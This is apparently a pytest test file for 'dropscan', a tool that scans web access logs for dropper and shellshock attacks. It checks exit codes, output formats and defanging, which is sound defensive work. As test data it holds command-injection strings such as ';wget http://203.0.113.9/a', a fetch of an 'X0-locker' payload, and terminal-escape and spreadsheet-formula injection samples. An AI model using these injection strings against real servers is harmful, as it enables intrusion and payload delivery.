"""The command line as a user drives it: exit codes, accounting, formats, safety."""

from __future__ import annotations

import csv
import gzip
import io
import json

from conftest import GOOD_PACK, REAL_APACHE_LINES, SAMPLE_LOGS, cli_run, combined_line
from dropscan.cli import app

JSONL_KEYS = {
    "log_file",
    "line_no",
    "offset",
    "timestamp",
    "vhost",
    "client_ip",
    "method",
    "request",
    "status",
    "bytes",
    "user_agent",
    "referer",
    "field",
    "decoded",
    "rule_ids",
    "category",
    "severity",
    "egress",
}


def test_scan_sample_logs(runner, tmp_path):
    summary = tmp_path / "s.json"
    r = cli_run(runner, ["scan", str(SAMPLE_LOGS), "--format", "jsonl", "--summary", str(summary)])
    assert r.exit_code == 1, r.stderr
    recs = [json.loads(x) for x in r.stdout.splitlines()]
    assert recs and all(JSONL_KEYS <= set(x) for x in recs)
    # oldest first: the rotated .2.gz, then .1, then access.log, then the vhost log
    files = [x["log_file"].rsplit("/", 1)[1] for x in recs]
    assert files == sorted(
        files, key=["access.log.2.gz", "access.log.1", "access.log", "other_vhosts_access.log"].index
    )
    s = json.loads(summary.read_text())
    for f in s["files"]:
        assert f["lines"] == f["records"] + f["rejected"]
        assert f["error"] is None
    fmts = {f["path"].rsplit("/", 1)[1]: f["format"] for f in s["files"]}
    assert fmts["other_vhosts_access.log"] == "vhost_combined" and fmts["access.log"] == "combined"
    assert s["totals"]["findings"] == len(recs)
    writeup = next(x for x in recs if "X0-locker" in x["request"])
    assert writeup["egress"] == [
        {
            "host": "193.13.87.38",
            "port": 80,
            "scheme": "http",
            "ip_literal": True,
            "url": "http://193.13.87.38/X0-locker",
            "wildcard": False,
        }
    ]
    assert writeup["timestamp"] == "2026-11-27T07:02:11+01:00" and writeup["line_no"] == 6


def test_offsets_and_line_numbers_point_at_the_line(runner):
    r = cli_run(runner, ["scan", str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
    data = (SAMPLE_LOGS / "access.log").read_bytes()
    lines = data.splitlines(keepends=True)
    for x in map(json.loads, r.stdout.splitlines()):
        assert data[x["offset"] :].startswith(lines[x["line_no"] - 1])


def test_clean_input_exits_0(runner, tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/index.html") * 3)
    r = cli_run(runner, ["scan", str(p), "-f", "jsonl"])
    assert (r.exit_code, r.stdout) == (0, "")


def test_missing_file_is_one_line_exit_2_and_others_still_scanned(runner, tmp_path):
    r = cli_run(runner, ["scan", str(tmp_path / "nope.log"), str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
    assert r.exit_code == 2
    assert r.stdout.count("\n") > 3  # findings of the readable file
    err = r.stderr.strip().splitlines()
    assert err[0] == f"dropscan: error: {tmp_path / 'nope.log'}: no such file or directory"
    assert err[1].startswith("dropscan: INCOMPLETE: 1 input(s) failed")  # then what the results do cover
    assert "1 input(s) unreadable, 1 file(s)" in err[2]


def test_what_was_covered_is_said_without_a_terminal(runner, tmp_path):
    """A pipe or a cron mail tells an empty log from a clean one: the coverage goes to stderr
    whether it is a terminal or not (only --quiet with nothing found is silent)."""
    empty, clean = tmp_path / "empty.log", tmp_path / "clean.log"
    empty.write_bytes(b"")
    clean.write_bytes(combined_line("/index.html") * 3)
    said = {}
    for p in (empty, clean):
        r = cli_run(runner, ["scan", str(p), "-f", "jsonl"])
        assert (r.exit_code, r.stdout) == (0, "")
        said[p.name] = r.stderr
    assert "0 lines" in said["empty.log"] and "3 lines (3 records, 0 rejected)" in said["clean.log"]
    r = cli_run(runner, ["scan", str(clean), "-f", "jsonl", "--quiet"])
    assert (r.exit_code, r.stdout, r.stderr) == (0, "", "")


def test_unknown_format_is_usage_error(runner):
    r = runner.invoke(app, ["scan", str(SAMPLE_LOGS / "access.log"), "--log-format", "nonsense"])
    assert r.exit_code != 0
    import subprocess
    import sys

    from dropscan.cli import main  # the console entry maps it to one line, exit 2

    p = subprocess.run(
        [
            sys.executable,
            "-c",
            "from dropscan.cli import main; main()",
            "scan",
            str(SAMPLE_LOGS / "access.log"),
            "--log-format",
            "nonsense",
        ],
        capture_output=True,
        text=True,
    )
    assert p.returncode == 2 and "Traceback" not in p.stderr
    assert (
        p.stderr.strip() == "dropscan: error: unknown log format 'nonsense': use one of vhost_combined, "
        "combined, vhost_common, common, lighttpd, json, json:caddy, json:traefik, json:ecs, json:nginx, w3c, "
        "cloudfront, alb, elb, haproxy, envoy, an Apache LogFormat or an nginx log_format string"
    )
    assert main


def test_stdin_and_rejects(runner, tmp_path):
    junk = [b"not a log line", b"\x00\x01binary\xff"]
    data = b"".join(ln + b"\n" for ln in REAL_APACHE_LINES[:3]) + b"\n".join(junk) + b"\n"
    rej = tmp_path / "rejects.log"
    summary = tmp_path / "s.json"
    r = cli_run(
        runner,
        ["scan", "-", "-f", "jsonl", "-l", "combined", "--rejects", str(rej), "--summary", str(summary)],
        input=gzip.compress(data),
    )
    assert r.exit_code == 1
    assert rej.read_bytes() == b"".join(j + b"\n" for j in junk)
    f = json.loads(summary.read_text())["files"][0]
    assert (f["path"], f["lines"], f["records"], f["rejected"]) == ("-", 5, 3, 2)


def test_not_a_log_file(runner, tmp_path):
    p = tmp_path / "notes.log"
    p.write_bytes(b"dear diary\nwget is great\n\x89PNG\r\n")
    s = tmp_path / "s.json"
    r = cli_run(runner, ["scan", str(p), "-f", "jsonl", "--summary", str(s)])
    assert (r.exit_code, r.stdout) == (2, "") and "no known log format" in r.stderr
    # named but not a log: an error, and not scanned as raw text (--log-format says what it is)
    summary = json.loads(s.read_text())
    f = summary["files"][0]
    assert (f["status"], f["lines"], f["findings"], summary["complete"]) == ("failed", 0, 0, False)


def test_csv_is_formula_guarded(runner, tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", ua='=HYPERLINK("http://x")'))
    r = cli_run(runner, ["scan", str(p), "-f", "csv"])
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert rows[0]["user_agent"] == '\'=HYPERLINK("http://x")'
    assert rows[0]["dest_host"] == "203.0.113.9" and rows[0]["dest_port"] == "80"


def test_table_escapes_control_characters_and_markup(runner, tmp_path):
    p = tmp_path / "access.log"
    ua = "\x1b]0;pwned\x07[link=http://evil]x[/link]\x1b[2J"
    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", referer=ua, ua=ua))
    r = cli_run(runner, ["scan", str(p), "-f", "table", "--defang"])
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "hxxp://203.0.113[.]9" in r.stdout


def test_defang_keeps_json_exact(runner, tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a"))
    r = cli_run(runner, ["scan", str(p), "-f", "jsonl", "--defang"])
    assert json.loads(r.stdout)["egress"][0]["url"] == "http://203.0.113.9/a"


def test_explain(runner):
    line = REAL_APACHE_LINES[0].decode()
    r = cli_run(runner, ["explain", line])
    assert r.exit_code == 1
    assert "MATCH dropper.wget (critical) on view url: http://198.51.100.7:80" in r.stdout
    assert "MATCH shellshock.command" in r.stdout
    r = cli_run(runner, ["explain", "--json", REAL_APACHE_LINES[1].decode()])
    assert r.exit_code == 0 and json.loads(r.stdout)["finding"] is None


def test_signatures_list_and_test(runner):
    r = cli_run(runner, ["signatures", "list", "--format", "jsonl"])
    ids = [json.loads(x)["id"] for x in r.stdout.splitlines()]
    assert "dropper.wget" in ids and len(ids) == len(set(ids)) >= 25
    r = cli_run(runner, ["signatures", "test"])
    assert r.exit_code == 0, r.stdout
    assert "0 example failure(s), 0 lint failure(s)" in r.stdout


def test_signatures_test_fails_on_a_broken_pack(runner, tmp_path):
    # examples that contradict the pattern: the match never fires, the no_match does
    examples = 'match: ["/x?a=;foo"], no_match: ["/x?a=foo"]'
    broken = GOOD_PACK.replace(examples, 'match: ["/x?a=;bar"], no_match: ["/x?a=;foo"]')
    (tmp_path / "p.yaml").write_text(broken)
    r = cli_run(runner, ["signatures", "test", str(tmp_path)])
    assert r.exit_code == 1 and "FAIL my.rule match" in r.stdout and "FAIL my.rule no_match" in r.stdout
